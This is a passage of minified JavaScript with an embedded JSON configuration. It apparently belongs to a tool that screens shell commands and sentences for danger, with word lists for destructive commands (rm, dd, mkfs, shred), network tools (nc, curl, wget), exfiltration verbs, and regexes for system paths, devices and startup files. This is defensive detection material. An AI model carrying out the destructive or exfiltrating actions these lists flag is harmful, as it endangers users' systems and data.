+ts","preventing","forbid","forbids","forbidden","prohibit","prohibits","prohibited","disallow","disallowed","block","blocks","blocking","blocked","stop","stops"\
+,"protect","protects","against","unless","warn","warns","rather","instead","neither","hardly","nothing","nobody","ne"],"ends_denial":["but","instead","just","ra\
+ther","simply","only"],"speech_verbs":["explain","explains","document","documents","describe","describes","discuss","mention","mentions","note","notes","review"\
+,"reviews","summarize","summarise","clarify","investigate","analyze","analyse","research","check","verify","confirm","ask","consider","compare","evaluate","test\
+","tests","cover","fix","fixes","rename","refactor","detect","detects","reject","rejects","report","reports","flag","flags","catch","catches","grep","search","l\
+ook","find","understand","teach","highlight","reword","rewrite-docs","translate","list","suggests","assert","handle","handles"],"predicates":["is","are","was","\
+were","isn't","aren't","wasn't","can","can't","may","might","would","could","should","has","had","does","doesn't","returns","fails","failed","throws","breaks","\
+broke","causes","caused","shows","requires","takes","works","happens","leads","means","seems","appears","crashes","crashed","hangs","deletes","removes","looks",\
+"becomes","gets"],"subjects":["the","this","that","these","those","it","a","an","users","they","he","she","there","some","if","when"],"relative":["that","which"\
+,"what","who","someone","somebody","anyone","anybody","where","it","there","they","we","i","you","whatever","everything"],"creation_verbs":["create","write","ma\
+ke","build","generate","develop","craft","prepare","produce"],"program":["script","program","command","one-liner","code","function","file","process","tool","job\
+","playbook"],"passes_on":["post","posting","send","sending","upload","uploading","mail","email","share","publish","leak","forward","paste","push","copy","dump"\
+,"transmit","exfiltrate"],"pronouns":["it","them"],"one_of":["each","every"],"heads":["key","secret","credential","password","one"],"overwrites":["overwrite","o\
+verwriting","clobber","replace"],"doubled":["drop","zip","wget","put","set","shut","rm","get","plug","ship","scrub","grab","cat","log","strip","zap","stop","com\
+mit","reset","run","submit"],"run_verbs":["run","execute","use","do","invoke","call","type","issue","launch","try","start","perform","enter","apply"],"mentions"\
+:["dangerous","destructive","harmful","unsafe","bad","example","examples","e.g","denied","disallowed","risky","don'ts","banned","anti-pattern","anti-patterns","\
+error","errors","log","logs","output","diff","changelog","test","tests","case","cases","document","documents","documentation","docs","reported","reports","says"\
+,"said","bug","reproduce","repro","expected","actual","observed","quote"],"separates":["not","never","instead","without","than","avoid","don't","about","whether\
+","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","us","then","must","can","now","next","also","just","or"],"shells":["sh\
+","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names":["git","rm","sudo","curl","wget","chmod","chown","dd","mkfs","kubectl\
+","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws","gcloud","az","systemctl","iptables","ufw","crontab","ssh","scp","rsyn\
+c","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat","mv","cp","bash","sh","python","python3","node","helm","gh","useradd"\
+,"passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean","checkout","restore","branch","stash","rebase","filter-branch","filte\
+r-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","exec","destroy","system","volume","rmi","run","publish","unpublish","yan\
+k","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","release","repo"],"fences":{"python":"python3 -c","py":"python3 -c","js\
+":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put","set":"set","shut":"shut","write":"written","give":"given","tear":"to\
+rn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made","overwrite":"overwritten","rewrite":"rewritten","bring":"brought","fo\
+rce-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:va\
+r/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sys|proc|dev|root|home|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|u\
+sers|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash\
+_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\\\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.p\
+reload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev\
+|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"},"refusals":{"unreadable-command":"The command $. Write it plainly, or in se\
+veral steps.","unparsed-command":"No shell reads this: $. Give the command alone; what is no command belongs in a file or an answer.","unverifiable-command":"No\
+body can say before it runs which program this is, and it may be a dangerous one. $","unreadable-text":"The text is too long to be judged. Say it in parts."}}}`);var Br=["reads","writes","deletes","moves","changes"],Dw=Object.keys(Y.paths.classes),uu=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),pr=t=>uu(
 t,e=>new Set(e)),Ra=t=>uu(t,([e,s])=>new RegExp(e,s)),{irregular:jw,classes:Ww,fences:Mw,refusals:Fw,...Uw}=Y.sentences,Te=t=>new Map(Object.entries(t)),b=Ra(Y.
 forms.forms),_e=pr(Y.programs.words),N=pr(Y.languages.words),Je=pr(Y.paths.words),q={grammars:Te(Y.arguments.grammars),grammarAliases:Te(Y.arguments.aliases),gitOptions:Te(
 Y.arguments.git_options),dryRuns:Te(Y.arguments.dry_runs),help:pr(Y.arguments.help),roles:Te(Y.arguments.roles),interpreters:Te(Y.programs.interpreters),consoles:Te(
